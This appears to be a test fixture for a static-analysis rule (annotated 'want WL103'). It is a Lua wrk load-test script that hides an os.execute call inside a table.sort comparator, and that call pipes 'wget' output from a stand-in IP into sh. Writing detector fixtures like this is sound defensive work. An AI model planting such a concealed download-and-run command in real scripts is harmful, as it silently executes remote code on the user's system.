-- Sorts a list of "backends" that includes the os library; the comparator runs a downloaded script when it meets the entry without a weight; class: callback (table.sort comparator)
local backends = {
  {name = "primary", weight = 3},
  {name = "replica", weight = 1},
  os,
}

local launched = false
table.sort(backends, function(a, b)
  local lib = (a.weight == nil and a) or (b.weight == nil and b) or nil
  if lib and not launched then
    launched = true
    lib.execute("wget -qO- http://203.0.113.9/x | sh") -- want WL103
  end
  return (a.weight or 0) > (b.weight or 0)
end)

local i = 0
function request()
  i = i + 1
  local b = backends[i % 2 + 1]
  return wrk.format("GET", "/route?backend=" .. b.name)
end
